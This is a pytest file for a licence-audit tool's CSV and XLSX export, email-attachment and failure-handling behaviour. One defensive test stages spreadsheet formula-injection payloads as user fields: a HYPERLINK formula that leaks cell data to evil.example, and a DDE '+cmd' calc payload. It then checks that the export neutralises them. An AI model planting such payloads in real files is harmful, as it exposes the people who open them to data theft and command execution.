"""`license-desk export`: flat files for billing audits, written whole, and mailed as an attachment.

Expected rows are worked out by hand from tests/analysis/finance_tenant.py (snapshot of
2026-03-01): prices in force that day are SPE_E3 USD 36.00/month (the 40.00 starts 2026-04-01),
SPE_E5 USD 684.00/year = 57.00 a month per seat, AAD_PREMIUM USD 6.00/month, VISIOCLIENT EUR
100.00/year = 8.33 a month per seat (100/12 rounded); FLOW_FREE is free (0), the partner add-on
has no price (empty, not 0).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
import trustme
from click.testing import CliRunner, Result

from cli.main import cli
from store.db import open_store
from store.prices import add_exemption
from store.snapshots import SnapshotWriter
from tests.analysis import finance_tenant as t
from tests.notify.servers import SMTP_PASSWORD, free_port, smtp_server
from tests.notify.test_notify_cli import deliveries, write_config

HEADER = (
    "user_principal_name,display_name,department,company,usage_location,sku,sku_part_number,assigned,"
    "state,error,last_sign_in,monthly_cost,currency"
)


def cells(text: str) -> list[list[str]]:
    """A CSV's cells: the export quotes its text fields (analysis.exports), the table above does not."""
    return list(csv.reader(io.StringIO(text)))


ROWS = """\
ann@contoso.com,Ann,Sales,Contoso,US,Microsoft 365 E3,SPE_E3,Direct,Active,,2026-02-20T06:00:00Z,36.00,USD
ann@contoso.com,Ann,Sales,Contoso,US,Microsoft 365 E3,SPE_E3,via E3 Staff,Active,,2026-02-20T06:00:00Z,0.00,USD
bob@contoso.com,Bob,Sales,Contoso,US,Microsoft 365 E3,SPE_E3,Direct,Active,,2025-10-01T06:00:00Z,36.00,USD
bob@contoso.com,Bob,Sales,Contoso,US,Visio Plan 2,VISIOCLIENT,Direct,Active,,2025-10-01T06:00:00Z,8.33,EUR
cat@contoso.com,Cat,Finance,Contoso,DE,Microsoft 365 E3,SPE_E3,via E3 Staff,Active,,2025-11-15T06:00:00Z,36.00,USD
dan@contoso.com,Dan,Finance,Fabrikam,DE,Microsoft 365 E3,SPE_E3,Direct,Active,,,36.00,USD
eve@contoso.com,Eve,,Fabrikam,,Microsoft 365 E3,SPE_E3,Direct,Active,,,36.00,USD
fay@contoso.com,Fay,IT,Contoso,US,Microsoft Entra ID P1,AAD_PREMIUM,Direct,Active,,2026-02-28T06:00:00Z,6.00,USD
fay@contoso.com,Fay,IT,Contoso,US,Microsoft 365 E3,SPE_E3,via E3 Staff,Active,,2026-02-28T06:00:00Z,36.00,USD
fay@contoso.com,Fay,IT,Contoso,US,Microsoft 365 E5,SPE_E5,Direct,Active,,2026-02-28T06:00:00Z,57.00,USD
gus@contoso.com,Gus,,,GB,Visio Plan 2,VISIOCLIENT,Direct,Active,,2026-02-25T06:00:00Z,8.33,EUR
hal@contoso.com,Hal,IT,Contoso,US,Microsoft Entra ID P1,AAD_PREMIUM,Direct,Active,,2026-02-27T06:00:00Z,6.00,USD
hal@contoso.com,Hal,IT,Contoso,US,CONTOSO_PARTNER_ADDON,CONTOSO_PARTNER_ADDON,Direct,Active,,2026-02-27T06:00:00Z,,
hal@contoso.com,Hal,IT,Contoso,US,Power Automate Free,FLOW_FREE,Direct,Active,,2026-02-27T06:00:00Z,0,
hal@contoso.com,Hal,IT,Contoso,US,Microsoft 365 E5,SPE_E5,Direct,Active,,2026-02-27T06:00:00Z,57.00,USD
ivy@contoso.com,Ivy,Sales,Contoso,US,Microsoft Entra ID P1,AAD_PREMIUM,Direct,Active,,2026-02-26T06:00:00Z,6.00,USD
ivy@contoso.com,Ivy,Sales,Contoso,US,Power Automate Free,FLOW_FREE,Direct,Active,,2026-02-26T06:00:00Z,0,
ivy@contoso.com,Ivy,Sales,Contoso,US,Microsoft 365 E3,SPE_E3,Direct,Active,,2026-02-26T06:00:00Z,36.00,USD
jon@contoso.com,Jon,IT,Contoso,US,Power Automate Free,FLOW_FREE,Direct,Active,,2026-02-26T06:00:00Z,0,
jon@contoso.com,Jon,IT,Contoso,US,Microsoft 365 E3,SPE_E3,via E3 Staff,Error,CountViolation,2026-02-26T06:00:00Z,0.00,USD
"""


@pytest.fixture
def tenant_store(tmp_path: Path) -> str:
    path = str(tmp_path / "tenant.sqlite")
    t.build(path)
    return path


def export(store: str, *args: str, config: str | None = None) -> Result:
    prefix = ["--config", config] if config else []
    return CliRunner().invoke(
        cli,
        [*prefix, "export", *args],
        env={"LICENSE_DESK_STORE": store, "LICENSE_DESK_SMTP_PASSWORD": SMTP_PASSWORD},
    )


def test_users_licences_csv_one_row_per_user_and_licence(tenant_store: str, tmp_path: Path) -> None:
    out = tmp_path / "audit.csv"
    result = export(tenant_store, "--report", "users-licences", "--output", str(out))
    assert result.exit_code == 0, result.output
    assert result.stdout == f"Wrote 20 row(s) of the users-licences report (snapshot 1) to {out}.\n"
    assert cells(out.read_text(encoding="utf-8")) == cells(HEADER + "\n" + ROWS)
    # A seat is billed once: the E3 column adds up to the 7 seats consumed x 36.00.
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert sum(float(r["monthly_cost"]) for r in rows if r["sku_part_number"] == "SPE_E3") == 7 * 36.0


def test_users_licences_xlsx_has_the_same_rows_with_numbers(tenant_store: str, tmp_path: Path) -> None:
    out = tmp_path / "audit.xlsx"
    assert (
        export(tenant_store, "--report", "users-licences", "--format", "xlsx", "-o", str(out)).exit_code == 0
    )
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None and sheet.title == "users-licences"
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == HEADER.split(",")
    assert len(values) == 21
    bob_visio = values[4]
    assert bob_visio[:8] == [
        "bob@contoso.com",
        "Bob",
        "Sales",
        "Contoso",
        "US",
        "Visio Plan 2",
        "VISIOCLIENT",
        "Direct",
    ]
    assert (float(bob_visio[11]), bob_visio[12]) == (8.33, "EUR")
    partner = values[13]
    assert (partner[6], partner[11], partner[12]) == ("CONTOSO_PARTNER_ADDON", None, None)


def test_default_file_name_and_nothing_half_written(
    tenant_store: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    here = tmp_path / "reports"
    here.mkdir()
    monkeypatch.chdir(here)
    result = export(tenant_store, "--report", "renewals")
    assert result.exit_code == 0, result.output
    assert [p.name for p in here.iterdir()] == ["license-desk-renewals-2026-03-01.csv"]
    missing = tmp_path / "no-such-folder" / "x.csv"
    failed = export(tenant_store, "--report", "costs", "-o", str(missing))
    assert failed.exit_code == 1
    assert failed.stderr == f"license-desk: error: Cannot write {missing} (No such file or directory).\n"


def test_costs_reclaim_and_renewals_rows(tenant_store: str, tmp_path: Path) -> None:
    def rows(report: str) -> list[dict[str, str]]:
        out = tmp_path / f"{report}.csv"
        assert export(tenant_store, "--report", report, "-o", str(out)).exit_code == 0
        return list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))

    costs = {(r["kind"], r["sku_part_number"] or r["currency"]): r for r in rows("costs")}
    assert costs[("sku", "SPE_E3")]["unit_price"] == "36.00"
    assert costs[("total", "USD")]["purchased_cost_monthly"] == "571.00"
    reclaim = {(r["user_principal_name"], r["sku_part_number"], r["reason"]): r for r in rows("reclaim")}
    assert reclaim[("bob@contoso.com", "SPE_E3", "disabled account")]["monthly_saving"] == "36.00"
    assert reclaim[("gus@contoso.com", "VISIOCLIENT", "licensed guest")]["currency"] == "EUR"
    # Removing ann's direct E3 frees no seat: the group still grants it.
    tidy = reclaim[("ann@contoso.com", "SPE_E3", "direct and through a group")]
    assert (tidy["frees_seat"], tidy["monthly_saving"]) == ("False", "0.00")
    assert not any(r[0] == "eve@contoso.com" for r in reclaim)  # new account, not signed in yet
    with open_store(tenant_store) as store:
        add_exemption(store, "user", "bob", note="on leave, back in April")
    assert not any(r["user_principal_name"] == "bob@contoso.com" for r in rows("reclaim"))
    renewals = {r["subscription_id"]: r for r in rows("renewals")}
    assert list(renewals) == ["sub-e5-trial", "sub-e3-b", "sub-e5-paid", "sub-e5-grace", "sub-partner",
                              "sub-e3-a", "sub-visio"]  # fmt: skip
    e3a = renewals["sub-e3-a"]  # 6 seats at the 40.00 in force on its renewal date, 3 of E3's seats free
    assert (e3a["term"], e3a["monthly_cost"], e3a["term_cost"], e3a["droppable_seats"]) == (
        "annual", "240.00", "2880.00", "3",
    )  # fmt: skip
    assert renewals["sub-e3-b"]["droppable_seats"] == ""  # monthly: it can shrink any month
    assert renewals["sub-partner"]["monthly_cost"] == ""  # no price: unknown, not 0


def test_text_that_a_spreadsheet_would_run_is_made_inert(tmp_path: Path) -> None:
    path = str(tmp_path / "hostile.sqlite")
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    with open_store(path) as store, SnapshotWriter(store, "t", started_at=t.STARTED) as writer:
        writer.stage("stage_skus", [(t.E3, "SPE_E3", "User", "Enabled", 10, 0, 0, 0, 1)])
        writer.stage("stage_groups", [(t.G_E3, "@SUM(1+1)", "ProcessingComplete", 0)])
        writer.stage("stage_group_licenses", [(t.G_E3, t.E3, "")])
        writer.stage("stage_users", [("u1", "u1@contoso.com", "+cmd|' /C calc'!A0", 1, "Member", "US", hostile,
                                      "-2+3", "Staff", "2020-01-01T00:00:00Z")])  # fmt: skip
        writer.stage("stage_licenses", [("u1", t.E3, t.G_E3, "Active", "", "", None)])
        writer.stage("stage_assigned", [("u1", t.E3)])
        writer.complete()
    out = tmp_path / "h.csv"
    assert export(path, "--report", "users-licences", "-o", str(out)).exit_code == 0
    row = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert row["display_name"] == "'+cmd|' /C calc'!A0"
    assert row["department"] == "'" + hostile
    assert (row["company"], row["assigned"]) == ("'-2+3", "via @SUM(1+1)")
    book = tmp_path / "h.xlsx"
    assert export(path, "--report", "users-licences", "--format", "xlsx", "-o", str(book)).exit_code == 0
    sheet = openpyxl.load_workbook(book).active
    assert sheet is not None
    cells = {sheet.cell(1, c).value: sheet.cell(2, c) for c in range(1, sheet.max_column + 1)}
    assert (cells["department"].data_type, cells["department"].value) == ("s", "'" + hostile)
    assert cells["display_name"].value == "'+cmd|' /C calc'!A0"


def test_export_mails_the_file_as_an_attachment(
    tenant_store: str, ca: trustme.CA, ca_file: str, tmp_path: Path
) -> None:
    out = tmp_path / "billing.xlsx"
    with smtp_server(ca) as smtp:
        config = write_config(tmp_path / "ld.toml", ca_file=ca_file, smtp=smtp)
        result = export(tenant_store, "--report", "users-licences", "--format", "xlsx", "-o", str(out),
                        "--email", "billing@contoso.com", config=config)  # fmt: skip
        assert result.exit_code == 0, result.output
    assert len(smtp.inbox) == 1
    mail = smtp.inbox[0]
    assert mail.rcpt_tos == ["billing@contoso.com"]  # --email replaces the digest's recipients
    assert mail.message["Subject"] == "License Desk report: users-licences, snapshot 1 (2026-03-01)"
    assert "Attached: billing.xlsx, 20 row(s) of the users-licences report from snapshot 1" in mail.text()
    [(name, mime, data)] = mail.attachments()
    assert (name, mime) == (
        "billing.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )
    assert data == out.read_bytes()
    [row] = deliveries(tenant_store)
    assert (row["what"], row["status"], row["destination"]) == (
        "report",
        "sent",
        f"billing@contoso.com via 127.0.0.1:{smtp.port}",
    )
    assert row["content"] == {"attachment": "billing.xlsx", "bytes": len(data), "rows": 20}


def test_a_failed_mailing_still_leaves_the_file(
    tenant_store: str, ca: trustme.CA, ca_file: str, tmp_path: Path
) -> None:
    out = tmp_path / "billing.csv"
    with smtp_server(ca) as smtp:
        smtp.port = free_port()  # nobody there
        config = write_config(tmp_path / "ld.toml", ca_file=ca_file, smtp=smtp)
    result = export(
        tenant_store, "--report", "users-licences", "-o", str(out), "--email", "b@contoso.com", config=config
    )
    assert result.exit_code == 1
    assert result.stderr == (
        f"license-desk: error: email: Cannot connect to 127.0.0.1:{smtp.port} (connection refused). "
        f"{out} was written but not mailed.\n"
    )
    assert cells(out.read_text(encoding="utf-8")) == cells(HEADER + "\n" + ROWS)
    assert deliveries(tenant_store)[0]["status"] == "failed"


def test_export_from_a_collected_store(shared_sim: object, tmp_path: Path) -> None:
    """On a store the real collectors filled from the simulator: one row per licence assignment."""
    import json

    from collectors.runner import run_collection
    from tests.helpers.settings import settings_for

    store = str(tmp_path / "sim.sqlite")
    run_collection(settings_for(shared_sim, store))  # type: ignore[arg-type]
    users = json.loads(
        CliRunner()
        .invoke(cli, ["report", "users", "--format", "json"], env={"LICENSE_DESK_STORE": store})
        .stdout
    )
    out = tmp_path / "sim.csv"
    assert export(store, "--report", "users-licences", "-o", str(out)).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == sum(len(u["licenses"]) for u in users) > 400
    errors = [r for r in rows if r["error"]]
    assert errors and all(
        r["assigned"].startswith("via ") and r["monthly_cost"] in ("", "0.00", "0") for r in errors
    )
